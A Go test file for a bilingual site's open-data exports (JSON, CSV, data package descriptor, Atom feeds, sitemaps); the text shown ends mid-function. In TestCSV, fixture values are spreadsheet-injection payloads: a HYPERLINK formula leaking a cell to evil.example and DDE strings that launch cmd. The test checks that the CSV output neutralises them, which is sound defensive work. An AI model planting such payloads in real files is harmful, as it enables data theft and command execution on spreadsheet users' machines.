package opendatatest

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"fmt"
	"maps"
	"os"
	"path/filepath"
	"reflect"
	"regexp"
	"slices"
	"sort"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/pssdc/guide-iad/tools/internal/csvcell"
	"github.com/pssdc/guide-iad/tools/sitetest"
	"golang.org/x/net/html"
)

const (
	repo    = "../.."
	fixture = "../check/testdata/valid"
)

var langs = []string{"en", "fr"}

var (
	buildOnce sync.Once
	built     *build
	buildErr  error
)

// build is the fixture site, built once for all tests, with the corpus it came from.
type build struct {
	site   *sitetest.Site
	corpus *corpus
}

// fixtureBuild stages the site with the fixture corpus plus testdata/extra (an entry
// whose text needs escaping) and builds it.
func fixtureBuild(t *testing.T) *build {
	t.Helper()
	buildOnce.Do(func() {
		dir, err := os.MkdirTemp("", "guide-opendata-")
		if err != nil {
			buildErr = err
			return
		}
		site, err := sitetest.Stage(repo, fixture, dir)
		if err != nil {
			buildErr = err
			return
		}
		if err := copyDir("testdata/extra", filepath.Join(site, "data")); err != nil {
			buildErr = err
			return
		}
		c, err := loadCorpus(filepath.Join(site, "data"))
		if err != nil {
			buildErr = err
			return
		}
		out := filepath.Join(dir, "public")
		if _, err := sitetest.Build(repo, site, out); err != nil {
			buildErr = err
			return
		}
		s, err := sitetest.Read(out)
		if err != nil {
			buildErr = err
			return
		}
		built = &build{site: s, corpus: c}
	})
	if buildErr != nil {
		t.Fatal(buildErr)
	}
	return built
}

func (b *build) file(t *testing.T, sitePath string) []byte {
	t.Helper()
	raw, err := os.ReadFile(filepath.Join(b.site.Root, filepath.FromSlash(sitePath)))
	if err != nil {
		t.Fatalf("%s: %v", sitePath, err)
	}
	return raw
}

// jsonRows reads /<lang>/<name>.json: an array of objects.
func (b *build) jsonRows(t *testing.T, lang, name string) []map[string]any {
	t.Helper()
	raw := b.file(t, fmt.Sprintf("/%s/%s.json", lang, name))
	var rows []map[string]any
	if err := json.Unmarshal(raw, &rows); err != nil {
		t.Fatalf("/%s/%s.json: %v", lang, name, err)
	}
	return rows
}

const bom = "\ufeff"

// csvRecords reads /<lang>/<name>.csv strictly (RFC 4180, same field count on every
// record) and returns the header and the records.
func (b *build) csvRecords(t *testing.T, lang, name string) ([]string, [][]string) {
	t.Helper()
	raw := b.file(t, fmt.Sprintf("/%s/%s.csv", lang, name))
	// The byte order mark that makes Excel read UTF-8 (docs/open-data.md); a CSV reader
	// that keeps it would see it in the first header name.
	raw, ok := bytes.CutPrefix(raw, []byte(bom))
	if !ok {
		t.Fatalf("/%s/%s.csv does not start with the UTF-8 byte order mark", lang, name)
	}
	r := csv.NewReader(bytes.NewReader(raw))
	r.FieldsPerRecord = 0
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatalf("/%s/%s.csv: %v", lang, name, err)
	}
	if len(recs) == 0 {
		t.Fatalf("/%s/%s.csv: empty", lang, name)
	}
	return recs[0], recs[1:]
}

// datapackage is the part of a Frictionless descriptor the tests read.
type datapackage struct {
	Profile     string `json:"profile"`
	Name        string `json:"name"`
	Title       string `json:"title"`
	Description string `json:"description"`
	Homepage    string `json:"homepage"`
	Licenses    []struct {
		Name, Path, Title string
	} `json:"licenses"`
	Resources []struct {
		Name        string         `json:"name"`
		Path        string         `json:"path"`
		Profile     string         `json:"profile"`
		Title       string         `json:"title"`
		Description string         `json:"description"`
		Format      string         `json:"format"`
		Mediatype   string         `json:"mediatype"`
		Encoding    string         `json:"encoding"`
		Dialect     map[string]any `json:"dialect"`
		Schema      *struct {
			Fields []struct {
				Name        string `json:"name"`
				Type        string `json:"type"`
				Format      string `json:"format"`
				Description string `json:"description"`
				Constraints struct {
					Required bool     `json:"required"`
					Enum     []string `json:"enum"`
				} `json:"constraints"`
			} `json:"fields"`
			PrimaryKey    []string `json:"primaryKey"`
			MissingValues []string `json:"missingValues"`
		} `json:"schema"`
	} `json:"resources"`
}

func (b *build) datapackage(t *testing.T, lang string) datapackage {
	t.Helper()
	var dp datapackage
	if err := json.Unmarshal(b.file(t, "/"+lang+"/datapackage.json"), &dp); err != nil {
		t.Fatalf("/%s/datapackage.json: %v", lang, err)
	}
	return dp
}

// fieldNames returns the field names that datapackage.json gives the table name.
func (dp datapackage) fieldNames(name string) []string {
	for _, r := range dp.Resources {
		if r.Name == name && r.Schema != nil {
			var names []string
			for _, f := range r.Schema.Fields {
				names = append(names, f.Name)
			}
			return names
		}
	}
	return nil
}

var tables = []string{"projects", "practices", "resources", "contacts"}

// lineFields are the list fields whose CSV items are separated by line breaks (free
// text and URLs, which may hold ";"); the other lists use ";".
var lineFields = map[string]bool{
	"partners": true, "lessons_text": true, "metric_labels": true, "metric_values": true,
	"link_titles": true, "link_urls": true, "checklist": true, "key_questions": true,
}

// markdownFields are in the JSON files only; the CSV has their plain text (NAME_text).
var markdownFields = map[string]bool{
	"challenge": true, "approach": true, "results": true, "lessons": true, "body": true, "description": true,
}

// TestRowsMatchTheData: each JSON file holds exactly the rows the data calls for (every
// project and practice, only consented contacts), value for value, in each language.
func TestRowsMatchTheData(t *testing.T) {
	b := fixtureBuild(t)
	for _, lang := range langs {
		for _, name := range tables {
			got := b.jsonRows(t, lang, name)
			want := b.corpus.rows(name, lang)
			if len(got) != len(want) {
				t.Errorf("/%s/%s.json: %d rows, want %d", lang, name, len(got), len(want))
			}
			for i := range min(len(got), len(want)) {
				if !reflect.DeepEqual(got[i], want[i]) {
					t.Errorf("/%s/%s.json row %d:\n got %s\nwant %s", lang, name, i, js(got[i]), js(want[i]))
				}
			}
		}
	}
	if n := len(b.jsonRows(t, "en", "projects")); n != len(b.corpus.projects) || n < 4 {
		t.Errorf("projects.json has %d rows for %d projects", n, len(b.corpus.projects))
	}
}

// TestBilingualValues spells out what the rows above hold for a few entries.
func TestBilingualValues(t *testing.T) {
	b := fixtureBuild(t)
	row := func(lang, name, id string) map[string]any {
		for _, r := range b.jsonRows(t, lang, name) {
			if r["id"] == id {
				return r
			}
		}
		t.Fatalf("/%s/%s.json: no row %q", lang, name, id)
		return nil
	}
	for _, c := range []struct {
		lang, table, id, field string
		want                   any
	}{
		{"en", "projects", "alpha-outreach", "title", "Alpha outreach mapping"},
		{"fr", "projects", "alpha-outreach", "title", "Cartographie de la sensibilisation Alpha"},
		{"en", "projects", "alpha-outreach", "jurisdiction_label", "Federal (Canada)"},
		{"fr", "projects", "alpha-outreach", "jurisdiction_label", "Fédéral (Canada)"},
		{"fr", "projects", "alpha-outreach", "theme_labels", []any{"Inclusion numérique", "Gestion des modes de prestation"}},
		{"en", "projects", "alpha-outreach", "themes", []any{"digital-inclusion", "channel-shift"}},
		{"fr", "projects", "alpha-outreach", "themes", []any{"digital-inclusion", "channel-shift"}},
		{"en", "projects", "alpha-outreach", "ended", "2021-03-31"},
		{"en", "projects", "alpha-outreach", "example", true},
		{"en", "projects", "alpha-outreach", "url", "https://e2e.test/en/projects/alpha-outreach/"},
		{"en", "projects", "alpha-outreach", "counterpart_url", "https://e2e.test/fr/projets/alpha-outreach/"},
		{"fr", "projects", "alpha-outreach", "url", "https://e2e.test/fr/projets/alpha-outreach/"},
		{"fr", "projects", "beta-forecasting", "stage_label", "Projet pilote"},
		{"fr", "projects", "beta-forecasting", "ended", nil},
		{"en", "projects", "beta-forecasting", "example", false},
		{"en", "projects", "beta-forecasting", "contacts", []any{"casey-river"}},
		{"en", "projects", "beta-forecasting", "practices", []any{"start-small"}},
		{"fr", "projects", "gamma-inventory", "title", "Gamma open service inventory"},
		{"fr", "projects", "gamma-inventory", "translation_pending", "fr"},
		{"fr", "projects", "gamma-inventory", "text_language", "en"},
		{"fr", "projects", "gamma-inventory", "level_label", "Provincial"},
		{"fr", "projects", "gamma-inventory", "stage_label", "Évalué"},
		{"en", "projects", "zeta-quoting", "title", `Quotes "double", commas, <b>tags</b> & ampersands`},
		{"en", "projects", "zeta-quoting", "contacts", []any{}},
		{"fr", "projects", "zeta-quoting", "organization", "O'Brien & fils, ltée"},
		{"fr", "practices", "start-small", "title", "Commencer petit"},
		{"fr", "practices", "start-small", "technique_labels", []any{"Analytique descriptive et tableaux de bord"}},
		{"en", "practices", "start-small", "projects", []any{"alpha-outreach", "beta-forecasting", "gamma-inventory"}},
		{"fr", "contacts", "casey-river", "role", "Directrice de l'analytique"},
		{"fr", "contacts", "casey-river", "language_labels", []any{"Anglais", "Français"}},
		{"en", "contacts", "casey-river", "projects", []any{"alpha-outreach", "beta-forecasting"}},
		{"fr", "contacts", "casey-river", "url", "https://e2e.test/fr/personnes-ressources/#contact-casey-river"},
		{"fr", "contacts", "casey-river", "counterpart_url", "https://e2e.test/en/contacts/#contact-casey-river"},
	} {
		if got := row(c.lang, c.table, c.id)[c.field]; !reflect.DeepEqual(got, c.want) {
			t.Errorf("/%s/%s.json %s.%s = %s, want %s", c.lang, c.table, c.id, c.field, js(got), js(c.want))
		}
	}
}

// TestURLsExist: every page and counterpart URL in the open data names a built page (and,
// for contacts, an anchor on it).
func TestURLsExist(t *testing.T) {
	b := fixtureBuild(t)
	for _, lang := range langs {
		for _, name := range tables {
			for _, r := range b.jsonRows(t, lang, name) {
				for _, key := range []string{"url", "counterpart_url"} {
					u, _ := r[key].(string)
					p, frag, ok := b.site.Resolve("/", u)
					if !ok || !b.site.Exists(p) {
						t.Errorf("/%s/%s.json %s %s: %q is not a page of the site", lang, name, r["id"], key, u)
						continue
					}
					wantLang := lang
					if key == "counterpart_url" {
						wantLang = other(lang)
					}
					if !strings.HasPrefix(p, "/"+wantLang+"/") {
						t.Errorf("/%s/%s.json %s %s: %q is not in %s", lang, name, r["id"], key, u, wantLang)
					}
					if frag != "" && !sitetest.IDs(b.site.PageAt(p).Doc)[frag] {
						t.Errorf("/%s/%s.json %s %s: no #%s on %s", lang, name, r["id"], key, frag, p)
					}
				}
			}
		}
	}
}

// TestCSV: each CSV file parses strictly, has the datapackage.json fields as its header,
// holds the same records as the JSON file (lists joined with ";", missing values empty),
// and is byte for byte RFC 4180 with every field quoted, CRLF, UTF-8 without BOM.
func TestCSV(t *testing.T) {
	b := fixtureBuild(t)
	for _, lang := range langs {
		dp := b.datapackage(t, lang)
		for _, name := range tables {
			file := fmt.Sprintf("/%s/%s.csv", lang, name)
			header, recs := b.csvRecords(t, lang, name)
			fields := dp.fieldNames(name)
			if !slices.Equal(header, fields) {
				t.Errorf("%s header %q\ndatapackage.json fields %q", file, header, fields)
			}
			rows := b.jsonRows(t, lang, name)
			if len(recs) != len(rows) {
				t.Errorf("%s: %d records, %s.json has %d rows", file, len(recs), name, len(rows))
				continue
			}
			for i, rec := range recs {
				want := make([]string, len(header))
				for j, h := range header {
					want[j] = csvValue(rows[i][h], lineFields[h])
				}
				if !slices.Equal(rec, want) {
					t.Errorf("%s record %d:\n got %q\nwant %q", file, i+1, rec, want)
				}
			}
			raw := b.file(t, file)
			if !utf8.Valid(raw) || !bytes.HasPrefix(raw, []byte(bom)) || bytes.Count(raw, []byte(bom)) != 1 {
				t.Errorf("%s: not UTF-8 with one byte order mark, at the start", file)
			}
			if exact := bom + quoteAll(append([][]string{header}, recs...)); string(raw) != exact {
				t.Errorf("%s is not every field quoted with CRLF records:\n%s", file, firstDiff(string(raw), exact))
			}
			if m := regexp.MustCompile(`&(#\d+|#x[0-9a-fA-F]+|amp|lt|gt|quot);`).Find(raw); m != nil {
				t.Errorf("%s holds the HTML escape %s: text must be written as is", file, m)
			}
		}
	}
	// Text a spreadsheet would run starts with an apostrophe in CSV; JSON keeps it as is.
	for _, lang := range langs {
		_, recs := b.csvRecords(t, lang, "projects")
		var rec []string
		for _, r := range recs {
			if r[0] == "eta-formulas" {
				rec = r
			}
		}
		var row map[string]any
		for _, r := range b.jsonRows(t, lang, "projects") {
			if r["id"] == "eta-formulas" {
				row = r
			}
		}
		want := map[string][3]string{ // title, summary, organization: JSON, then CSV
			"en": {`=HYPERLINK("https://evil.example/?"&A1,"Click")`, `-2+3+cmd|' /C calc'!A0`, `+1 organization`},
			"fr": {`'Apostrophe d'abord`, `@SUM(1+1)*cmd|' /C calc'!A0`, `-0.5`},
		}[lang]
		wantCSV := map[string][3]string{
			"en": {`'=HYPERLINK("https://evil.example/?"&A1,"Click")`, `'-2+3+cmd|' /C calc'!A0`, `'+1 organization`},
			"fr": {`''Apostrophe d'abord`, `'@SUM(1+1)*cmd|' /C calc'!A0`, `-0.5`},
		}[lang]
		if rec == nil || row == nil {
			t.Errorf("/%s/projects: no eta-formulas record or row", lang)
			continue
		}
		for i, key := range []string{"title", "summary", "organization"} {
			if row[key] != want[i] {
				t.Errorf("/%s/projects.json eta-formulas %s: %q, want the true value %q", lang, key, row[key], want[i])
			}
			if rec[i+1] != wantCSV[i] {
				t.Errorf("/%s/projects.csv eta-formulas %s: %q, want %q", lang, key, rec[i+1], wantCSV[i])
			}
		}
	}
	// The entry whose text needs quoting comes back intact.
	_, recs := b.csvRecords(t, "en", "projects")
	found := false
	for _, r := range recs {
		if r[0] == "zeta-quoting" {
			found = true
			if r[1] != `Quotes "double", commas, <b>tags</b> & ampersands` || !strings.Contains(r[2], "comma.\nSecond line with \"quotes\"") {
				t.Errorf("projects.csv zeta-quoting: title %q, summary %q", r[1], r[2])
			}
		}
	}
	if !found {
		t.Error("projects.csv has no zeta-quoting record")
	}
}

// TestJSONHasNoRawMarkup: JSON files are escaped by the JSON encoder (no hand-built
// strings): markup in the data never appears as raw "<" or as HTML entities.
func TestJSONHasNoRawMarkup(t *testing.T) {
	b := fixtureBuild(t)
	for _, lang := range langs {
		for _, name := range append(slices.Clone(tables), "datapackage") {
			file := fmt.Sprintf("/%s/%s.json", lang, name)
			raw := b.file(t, file)
			if !json.Valid(raw) {
				t.Errorf("%s: invalid JSON", file)
			}
			if bytes.ContainsAny(raw, "<>") || bytes.Contains(raw, []byte("&#")) || bytes.Contains(raw, []byte("&amp;")) {
				t.Errorf("%s holds raw markup or HTML entities", file)
			}
		}
	}
}

// TestConsentedContactsOnly: contacts files list only people with a consent date, and
// no open-data file names a contact who has not consented (dana-lake in the fixture).
func TestConsentedContactsOnly(t *testing.T) {
	b := fixtureBuild(t)
	var consented, withheld []string
	for id, c := range b.corpus.contacts {
		if _, ok := c["consent"]; ok {
			consented = append(consented, id)
		} else {
			withheld = append(withheld, id)
		}
	}
	sort.Strings(consented)
	if !slices.Contains(withheld, "dana-lake") || len(consented) == 0 {
		t.Fatalf("fixture changed: consented %v, withheld %v", consented, withheld)
	}
	for _, lang := range langs {
		var ids []string
		for _, r := range b.jsonRows(t, lang, "contacts") {
			ids = append(ids, r["id"].(string))
		}
		if !slices.Equal(ids, consented) {
			t.Errorf("/%s/contacts.json: %v, want the consented %v", lang, ids, consented)
		}
		_, recs := b.csvRecords(t, lang, "contacts")
		ids = ids[:0]
		for _, r := range recs {
			ids = append(ids, r[0])
		}
		if !slices.Equal(ids, consented) {
			t.Errorf("/%s/contacts.csv: %v, want the consented %v", lang, ids, consented)
		}
	}
	for path := range b.site.Files {
		if strings.HasSuffix(path, ".html") {
			continue // pages: tools/sitetest TestConsent
		}
		raw := b.file(t, path)
		for _, id := range withheld {
			c := b.corpus.contacts[id]
			for _, s := range []string{id, fmt.Sprint(c["name"]), fmt.Sprint(c["email"])} {
				if bytes.Contains(raw, []byte(s)) {
					t.Errorf("%s names %q of a contact who has not consented", path, s)
				}
			}
		}
	}
}

// TestDatapackage: /<lang>/datapackage.json describes every file and field, in the
// language of the site, with the licence; its tables' fields are the CSV headers.
func TestDatapackage(t *testing.T) {
	b := fixtureBuild(t)
	name := regexp.MustCompile(`^[-a-z0-9._/]+$`)
	types := []string{"string", "date", "boolean"}
	descs := map[string]map[string]string{}
	for _, lang := range langs {
		file := "/" + lang + "/datapackage.json"
		dp := b.datapackage(t, lang)
		if dp.Profile != "data-package" || !name.MatchString(dp.Name) || dp.Title == "" || dp.Description == "" {
			t.Errorf("%s: profile %q, name %q, title %q", file, dp.Profile, dp.Name, dp.Title)
		}
		if dp.Homepage != sitetest.BaseURL+lang+"/" {
			t.Errorf("%s: homepage %q", file, dp.Homepage)
		}
		if len(dp.Licenses) != 1 || dp.Licenses[0].Name != "CC-BY-4.0" || !strings.HasPrefix(dp.Licenses[0].Path, "https://creativecommons.org/licenses/by/4.0/") {
			t.Errorf("%s: licenses %+v, want CC-BY-4.0", file, dp.Licenses)
		}
		paths := map[string]bool{}
		for _, r := range dp.Resources {
			where := fmt.Sprintf("%s resource %q", file, r.Name)
			if !name.MatchString(r.Name) || r.Title == "" || r.Description == "" || r.Encoding != "utf-8" {
				t.Errorf("%s: name, title, description or encoding missing", where)
			}
			if strings.HasPrefix(r.Path, "/") || strings.Contains(r.Path, "..") || strings.Contains(r.Path, "://") {
				t.Errorf("%s: path %q is not relative to the descriptor", where, r.Path)
			}
			if !b.site.Files["/"+lang+"/"+r.Path] {
				t.Errorf("%s: %s does not exist", where, r.Path)
			}
			paths[r.Path] = true
			switch r.Format {
			case "csv":
				if r.Profile != "tabular-data-resource" || r.Mediatype != "text/csv" || r.Schema == nil {
					t.Errorf("%s: profile %q, mediatype %q, schema %v", where, r.Profile, r.Mediatype, r.Schema != nil)
					continue
				}
				if r.Dialect["delimiter"] != "," || r.Dialect["lineTerminator"] != "\r\n" {
					t.Errorf("%s: dialect %v", where, r.Dialect)
				}
				header, recs := b.csvRecords(t, lang, strings.TrimSuffix(r.Path, ".csv"))
				if fields := dp.fieldNames(r.Name); !slices.Equal(fields, header) {
					t.Errorf("%s: fields %q\n%s header %q", where, fields, r.Path, header)
				}
				if !slices.Equal(r.Schema.PrimaryKey, []string{"id"}) {
					t.Errorf("%s: primaryKey %v", where, r.Schema.PrimaryKey)
				}
				for j, f := range r.Schema.Fields {
					fw := fmt.Sprintf("%s field %q", where, f.Name)
					if !slices.Contains(types, f.Type) || !strings.HasSuffix(f.Description, ".") {
						t.Errorf("%s: type %q, description %q", fw, f.Type, f.Description)
					}
					if f.Type == "date" && f.Format != "default" {
						t.Errorf("%s: date without format \"default\" (YYYY-MM-DD)", fw)
					}
					if descs[r.Name+"."+f.Name] == nil {
						descs[r.Name+"."+f.Name] = map[string]string{}
					}
					descs[r.Name+"."+f.Name][lang] = f.Description
					// The values obey the schema.
					for _, rec := range recs {
						v := rec[j]
						switch {
						case v == "" && f.Constraints.Required:
							t.Errorf("%s: %s has no value for a required field", fw, rec[0])
						case v == "":
						case f.Type == "date":
							if _, err := time.Parse("2006-01-02", v); err != nil {
								t.Errorf("%s: %s: %q is not a date", fw, rec[0], v)
							}
						case f.Type == "boolean" && v != "true" && v != "false":
							t.Errorf("%s: %s: %q is not a boolean", fw, rec[0], v)
						case f.Constraints.Enum != nil && !slices.Contains(f.Constraints.Enum, v):
							t.Errorf("%s: %s: %q is not in the enum", fw, rec[0], v)
						}
					}
				}
			case "json":
				if r.Profile != "data-resource" || r.Mediatype != "application/json" || !strings.Contains(r.Description, strings.TrimSuffix(r.Path, ".json")+".csv") {
					t.Errorf("%s: profile %q, mediatype %q, description %q", where, r.Profile, r.Mediatype, r.Description)
				}
				// Its schema names every key of its rows; the CSV twin has the same fields
				// in the same order, less the Markdown ones.
				tbl := strings.TrimSuffix(r.Path, ".json")
				all := dp.fieldNames(r.Name)
				var csvFields []string
				for _, f := range all {
					if !markdownFields[f] {
						csvFields = append(csvFields, f)
					}
				}
				if want := dp.fieldNames(tbl); !slices.Equal(csvFields, want) {
					t.Errorf("%s: fields %q less the Markdown ones are not the CSV fields %q", where, all, want)
				}
				for _, row := range b.jsonRows(t, lang, tbl) {
					if keys := slices.Sorted(maps.Keys(row)); !slices.Equal(keys, slices.Sorted(slices.Values(all))) {
						t.Errorf("%s: row %v has the keys %q, the schema %q", where, row["id"], keys, all)
					}
				}
				for _, f := range r.Schema.Fields {
					if f.Type == "array" && f.Description == "" || !slices.Contains(append(types, "array"), f.Type) {
						t.Errorf("%s field %q: type %q, description %q", where, f.Name, f.Type, f.Description)
					}
				}
			default:
				t.Errorf("%s: format %q", where, r.Format)
			}
		}
		for _, tbl := range tables {
			for _, ext := range []string{".csv", ".json"} {
				if !paths[tbl+ext] {
					t.Errorf("%s does not describe %s%s", file, tbl, ext)
				}
			}
		}
	}
	// Descriptions are in the language of the file.
	for key, d := range descs {
		if d["en"] == d["fr"] {
			t.Errorf("field %s: the same description in English and French: %q", key, d["en"])
		}
	}
	if d := descs["projects.jurisdiction"]["fr"]; !strings.Contains(d, "Lieu du projet") {
		t.Errorf("French description of projects.jurisdiction: %q", d)
	}
}

// Atom (RFC 4287) as the tests read it.
type atomFeed struct {
	XMLName xml.Name    `xml:"http://www.w3.org/2005/Atom feed"`
	Lang    string      `xml:"http://www.w3.org/XML/1998/namespace lang,attr"`
	ID      string      `xml:"id"`
	Title   atomText    `xml:"title"`
	Updated string      `xml:"updated"`
	Author  []atomName  `xml:"author"`
	Links   []atomLink  `xml:"link"`
	Entries []atomEntry `xml:"entry"`
}

type atomEntry struct {
	ID         string     `xml:"id"`
	Title      atomText   `xml:"title"`
	Summary    atomText   `xml:"summary"`
	Updated    string     `xml:"updated"`
	Links      []atomLink `xml:"link"`
	Categories []struct {
		Term   string `xml:"term,attr"`
		Scheme string `xml:"scheme,attr"`
		Label  string `xml:"label,attr"`
	} `xml:"category"`
}

type atomText struct {
	Type string `xml:"type,attr"`
	Lang string `xml:"http://www.w3.org/XML/1998/namespace lang,attr"`
	Text string `xml:",chardata"`
}

type atomName struct {
	Name string `xml:"name"`
}

type atomLink struct {
	Rel      string `xml:"rel,attr"`
	Type     string `xml:"type,attr"`
	Hreflang string `xml:"hreflang,attr"`
	Href     string `xml:"href,attr"`
}

// TestAtomFeed: /<lang>/atom.xml parses and lists the case studies newest first (by
// reviewed date), each with a stable tag URI, its title and summary as in projects.json,
// a link to its page and its counterpart, in the feed's language or marked otherwise.
func TestAtomFeed(t *testing.T) {
	b := fixtureBuild(t)
	ids := map[string]bool{}
	for _, lang := range langs {
		file := "/" + lang + "/atom.xml"
		var f atomFeed
		if err := xml.Unmarshal(b.file(t, file), &f); err != nil {
			t.Fatalf("%s: %v", file, err)
		}
		locale := lang + "-CA"
		if f.Lang != locale || f.Title.Text == "" || len(f.Author) == 0 || f.Author[0].Name == "" {
			t.Errorf("%s: xml:lang %q, title %q, author %v", file, f.Lang, f.Title.Text, f.Author)
		}
		if f.ID != "tag:e2e.test,2026:"+lang+"/projects" {
			t.Errorf("%s: id %q", file, f.ID)
		}
		self := ""
		for _, l := range f.Links {
			if l.Rel == "self" {
				self = l.Href
			}
		}
		if self != sitetest.BaseURL+lang+"/atom.xml" {
			t.Errorf("%s: rel=self %q", file, self)
		}
		rows := map[string]map[string]any{}
		for _, r := range b.jsonRows(t, lang, "projects") {
			rows[r["id"].(string)] = r
		}
		// Expected order: reviewed date, newest first; at most 50.
		var want []string
		for id := range rows {
			want = append(want, id)
		}
		sort.SliceStable(want, func(i, j int) bool {
			return rows[want[i]]["reviewed"].(string) > rows[want[j]]["reviewed"].(string)
		})
		want = want[:min(50, len(want))]
		if len(f.Entries) != len(want) {
			t.Fatalf("%s: %d entries, want %d", file, len(f.Entries), len(want))
		}
		if f.Updated != f.Entries[0].Updated {
			t.Errorf("%s: updated %s, newest entry %s", file, f.Updated, f.Entries[0].Updated)
		}
		for i, e := range f.Entries {
			id := strings.TrimPrefix(e.ID, "tag:e2e.test,2026:"+lang+"/projects/")
			r := rows[id]
			where := fmt.Sprintf("%s entry %d (%s)", file, i, e.ID)
			if r == nil || id != want[i] {
				t.Errorf("%s: want the entry of %s", where, want[i])
				continue
			}
			if ids[e.ID] {
				t.Errorf("%s: id used twice", where)
			}
			ids[e.ID] = true
			up, err := time.Parse(time.RFC3339, e.Updated)
			if err != nil || up.Format("2006-01-02") != r["reviewed"] {
				t.Errorf("%s: updated %q, reviewed %v", where, e.Updated, r["reviewed"])
			}
			if e.Title.Text != r["title"] || e.Summary.Text != r["summary"] || e.Title.Type != "text" || e.Summary.Type != "text" {
				t.Errorf("%s: title %q summary %q, projects.json has %q, %q", where, e.Title.Text, e.Summary.Text, r["title"], r["summary"])
			}
			wantLang := ""
			if r["text_language"] != lang {
				wantLang = r["text_language"].(string) + "-CA"
			}
			if e.Title.Lang != wantLang || e.Summary.Lang != wantLang {
				t.Errorf("%s: xml:lang %q/%q, want %q", where, e.Title.Lang, e.Summary.Lang, wantLang)
			}
			links := map[string]string{}
			for _, l := range e.Links {
				if l.Rel == "alternate" {
					links[l.Hreflang] = l.Href
				}
			}
			if links[""] != r["url"] || links[other(lang)+"-CA"] != r["counterpart_url"] {
				t.Errorf("%s: links %v, want %v and %v", where, links, r["url"], r["counterpart_url"])
			}
			var terms []string
			for _, c := range e.Categories {
				terms = append(terms, c.Term)
				if c.Label == "" || !strings.HasPrefix(c.Scheme, sitetest.BaseURL+lang+"/") {
					t.Errorf("%s: category %+v", where, c)
				}
			}
			for _, key := range []string{"themes", "techniques", "data_sources"} {
				for _, code := range r[key].([]any) {
					if !slices.Contains(terms, code.(string)) {
						t.Errorf("%s: no category %s", where, code)
					}
				}
			}
		}
		if f.Entries[0].ID != "tag:e2e.test,2026:"+lang+"/projects/zeta-quoting" {
			t.Errorf("%s: first entry %s, want the newest (zeta-quoting)", file, f.Entries[0].ID)
		}
	}
}

// TestFeedLinkedFromHead: every page links its language's feed from <head>.
func TestFeedLinkedFromHead(t *testing.T) {
	b := fixtureBuild(t)
	n := 0
	for path, page := range b.site.Pages {
		lang := strings.SplitN(strings.TrimPrefix(path, "/"), "/", 2)[0]
		if page.IsRedirect() || (lang != "en" && lang != "fr") || strings.HasSuffix(path, ".html") {
			continue
		}
		links := sitetest.Find(page.Doc, func(n *html.Node) bool {
			// The feed of changes (changes.xml) is tools/sitetest's TestHistorySite's.
			return n.Data == "link" && sitetest.Attr(n, "rel") == "alternate" && sitetest.Attr(n, "type") == "application/atom+xml" &&
				!strings.HasSuffix(sitetest.Attr(n, "href"), "/changes.xml")
		})
		if len(links) != 1 {
			t.Errorf("%s: %d Atom links in <head>, want 1", path, len(links))
			continue
		}
		n++
		target, _, ok := b.site.Resolve(path, sitetest.Attr(links[0], "href"))
		if !ok || target != "/"+lang+"/atom.xml" || sitetest.Attr(links[0], "title") == "" {
			t.Errorf("%s: Atom link %q (title %q), want /%s/atom.xml", path, sitetest.Attr(links[0], "href"), sitetest.Attr(links[0], "title"), lang)
		}
	}
	if n < 50 {
		t.Errorf("only %d pages checked", n)
	}
}

type urlset struct {
	URLs []struct {
		Loc     string `xml:"loc"`
		Lastmod string `xml:"lastmod"`
		Links   []struct {
			Rel      string `xml:"rel,attr"`
			Hreflang string `xml:"hreflang,attr"`
			Href     string `xml:"href,attr"`
		} `xml:"http://www.w3.org/1999/xhtml link"`
	} `xml:"http://www.sitemaps.org/schemas/sitemap/0.9 url"`
}

type sitemapindex struct {
	Sitemaps []struct {
		Loc string `xml:"loc"`
	} `xml:"http://www.sitemaps.org/schemas/sitemap/0.9 sitemap"`
}

var pagerPath = regexp.MustCompile(`/page/\d+/$`)

// TestSitemaps: /sitemap.xml indexes one sitemap per language; together they list every
// HTML page of the site and nothing else, each with hreflang alternates (en-CA, fr-CA,
// x-default) that exist and are the ones in the page's <head>.
func TestSitemaps(t *testing.T) {
	b := fixtureBuild(t)
	var idx sitemapindex
	if err := xml.Unmarshal(b.file(t, "/sitemap.xml"), &idx); err != nil {
		t.Fatalf("/sitemap.xml: %v", err)
	}
	var maps []string
	for _, s := range idx.Sitemaps {
		maps = append(maps, s.Loc)
	}
	if want := []string{sitetest.BaseURL + "en/sitemap.xml", sitetest.BaseURL + "fr/sitemap.xml"}; !slices.Equal(maps, want) {
		t.Fatalf("/sitemap.xml lists %v, want %v", maps, want)
	}
	listed := map[string]bool{}
	for _, lang := range langs {
		file := "/" + lang + "/sitemap.xml"
		var us urlset
		if err := xml.Unmarshal(b.file(t, file), &us); err != nil {
			t.Fatalf("%s: %v", file, err)
		}
		for _, u := range us.URLs {
			path, _, ok := b.site.Resolve("/", u.Loc)
			if !ok || !strings.HasPrefix(path, "/"+lang+"/") {
				t.Errorf("%s: <loc>%s</loc> outside /%s/", file, u.Loc, lang)
				continue
			}
			page := b.site.PageAt(path)
			if page == nil || page.IsRedirect() {
				t.Errorf("%s: <loc>%s</loc> is not a page", file, u.Loc)
				continue
			}
			if listed[path] {
				t.Errorf("%s: %s listed twice", file, path)
			}
			listed[path] = true
			if u.Lastmod != "" {
				if _, err := time.Parse("2006-01-02", u.Lastmod); err != nil {
					t.Errorf("%s: %s: lastmod %q", file, path, u.Lastmod)
				}
			}
			alts := map[string]string{}
			for _, l := range u.Links {
				if l.Rel != "alternate" {
					t.Errorf("%s: %s: xhtml:link rel=%q", file, path, l.Rel)
				}
				alts[l.Hreflang] = l.Href
				if p, _, ok := b.site.Resolve("/", l.Href); !ok || !b.site.Exists(p) {
					t.Errorf("%s: %s: alternate %s → %s does not exist", file, path, l.Hreflang, l.Href)
				}
			}
			if alts[lang+"-CA"] != u.Loc || alts[other(lang)+"-CA"] == "" || alts["x-default"] == "" || len(alts) != 3 {
				t.Errorf("%s: %s: alternates %v", file, path, alts)
			}
			if head := headAlternates(page); !reflect.DeepEqual(head, alts) {
				t.Errorf("%s: %s: sitemap alternates %v, <head> %v", file, path, alts, head)
			}
		}
	}
	for path, page := range b.site.Pages {
		if !strings.HasSuffix(path, "/") || path == "/" || page.IsRedirect() || pagerPath.MatchString(path) {
			continue
		}
		if !listed[path] {
			t.Errorf("%s is in no sitemap", path)
		}
	}
	if len(listed) < 100 {
		t.Errorf("only %d pages in the sitemaps", len(listed))
	}
}

func headAlternates(p *sitetest.Page) map[string]string {
	out := map[string]string{}
